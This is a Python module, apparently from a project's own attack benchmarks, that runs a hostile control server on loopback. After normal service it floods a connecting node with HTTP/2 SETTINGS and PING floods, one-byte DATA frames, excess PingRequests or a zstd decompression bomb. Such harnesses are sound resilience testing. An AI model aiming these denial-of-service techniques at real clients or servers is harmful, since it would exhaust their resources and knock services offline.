"""A control server that serves a node well until it follows its map, and then floods it.

| flood        | what follows on the map stream, or beside it                                             |
|--------------|------------------------------------------------------------------------------------------|
| settings     | SETTINGS without a setting: each wants an answer                                         |
| pings        | PING: each wants an answer                                                               |
| never_reads  | the same, and the node's answers are not read                                            |
| tiny_data    | a map message of 2 MB in DATA frames of one byte, again and again                        |
| ping_requests| `count` PingRequests that are to be answered on a connection that has no free stream     |
| zstd_bomb    | once a second a map message of 6 kB, which becomes 64 MiB of JSON                        |

The machine is `tsnet.control.server`; the flood goes out behind what it says.
"""

from __future__ import annotations

import functools
import itertools
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from struct import Struct

from benchmarks.attacks import http2
from benchmarks.attacks.tally import LOOPBACK, Pace, Tally, Target, Wire
from tsnet.base.keys import MachinePrivateKey
from tsnet.base.links import Accepted, Close, Closed, Data, Link, Received
from tsnet.base.malformed import MalformedError
from tsnet.control.connection import Connection
from tsnet.control.mapframes import encode_frame
from tsnet.control.messages import MapResponse, PingRequest
from tsnet.control.server import Server
from tsnet.control.tailnet import TailnetState

MAP_OF_ONES = 2_000_000
BOMB = 64 << 20
MAX_CONCURRENT_STREAMS = 3
BUDGET = 1 << 20
_LENGTH = Struct("<I")
_SETTING = Struct(">HI")

Chunks = Iterator[tuple[bytes, int]]


def settings(stream: int, target: Target) -> Chunks:
    return http2.settings()


def pings(stream: int, target: Target) -> Chunks:
    return http2.pings()


never_reads = pings


def tiny_data(stream: int, target: Target) -> Chunks:
    message = _LENGTH.pack(MAP_OF_ONES) + b'{"X":"' + b"x" * (MAP_OF_ONES - 8) + b'"}'
    frames = {byte: http2.frame(http2.DATA, 0, stream, bytes([byte])) for byte in set(message)}
    while True:
        for start in range(0, len(message), http2.BATCH):
            piece = message[start : start + http2.BATCH]
            yield b"".join(frames[byte] for byte in piece), len(piece)


def ping_requests(stream: int, target: Target) -> Chunks:
    yield http2.frame(http2.SETTINGS, payload=_SETTING.pack(MAX_CONCURRENT_STREAMS, 1)), 0
    for number in range(target.count):
        ping = PingRequest(f"{target.control_url}/ping/{number}/{'x' * 400}", url_is_noise=True)
        yield http2.frame(http2.DATA, 0, stream, encode_frame(MapResponse(ping=ping).encode(), compress=False)), 1
    while True:
        time.sleep(1.0)
        yield b"", 0


def zstd_bomb(stream: int, target: Target) -> Chunks:
    bomb = http2.frame(http2.DATA, 0, stream, encode_frame(_lists(BOMB), compress=True))
    yield from itertools.repeat((bomb, 1))


FLOODS: dict[str, Callable[[int, Target], Chunks]] = {
    "settings": settings,
    "pings": pings,
    "never_reads": never_reads,
    "tiny_data": tiny_data,
    "ping_requests": ping_requests,
    "zstd_bomb": zstd_bomb,
}


@functools.cache
def _lists(size: int) -> bytes:
    return b'{"X":[' + b"[]," * (size // 3 - 4) + b"[]]}"


def flood(name: str, target: Target, tally: Tally) -> None:
    """Say where we listen and with which key a node may join, then serve whoever comes."""
    with socket.create_server((LOOPBACK, target.port)) as listening:
        port = listening.getsockname()[1]
        tailnet = TailnetState(entropy=os.urandom, base_domain="hostile.test")
        key = tailnet.create_auth_key("mallory@hostile.test", reusable=True).text
        machine = MachinePrivateKey(os.urandom(32))
        tally.say(control=port, auth_key=key)
        for number in itertools.count():
            connected, _ = listening.accept()
            wire = Wire(0, deaf=name == "never_reads", connection=connected)
            server = Server(
                tailnet,
                machine,
                entropy=os.urandom,
                base_url=f"http://{LOOPBACK}:{port}",
                wall_offset=time.time() - time.monotonic(),
                now=time.monotonic(),
            )
            serve = functools.partial(_serve, server, Link("flood", port, number), wire, name, target, tally)
            threading.Thread(target=serve, daemon=True).start()


def _serve(server: Server, link: Link, wire: Wire, name: str, target: Target, tally: Tally) -> None:
    """One connection of the node, by a machine of its own: all of them share the tailnet."""
    try:
        server.receive(Accepted(link, (LOOPBACK, 0)), time.monotonic())
        while not server.polling:
            server.receive(Received(link, wire.read()), time.monotonic())
            _write(server, wire)
        _flood(server._connections[link], server, wire, name, target, tally)
    except (OSError, MalformedError):
        tally.add("ended by the victim")
    finally:
        server.receive(Closed(link, "eof"), time.monotonic())
        wire.close()


def _write(server: Server, wire: Wire) -> None:
    for effect in server.transmit(time.monotonic(), BUDGET):
        if isinstance(effect, Data):
            wire.socket.settimeout(10.0)
            wire.socket.sendall(effect.data)
        elif isinstance(effect, Close):
            raise ConnectionAbortedError("we end it")


def _flood(connection: Connection, server: Server, wire: Wire, name: str, target: Target, tally: Tally) -> None:
    responder, pace = connection._responder, Pace(target.rate)
    assert responder is not None
    [stream] = [each.number for each in server._streams._streams.values()]
    time.sleep(0.3)  # what the node asks first is not answered any more: it has begun
    for data, count in FLOODS[name](stream, target):
        wire.write(responder.seal(data))
        tally.add("frames", count)
        pace.wait(count)
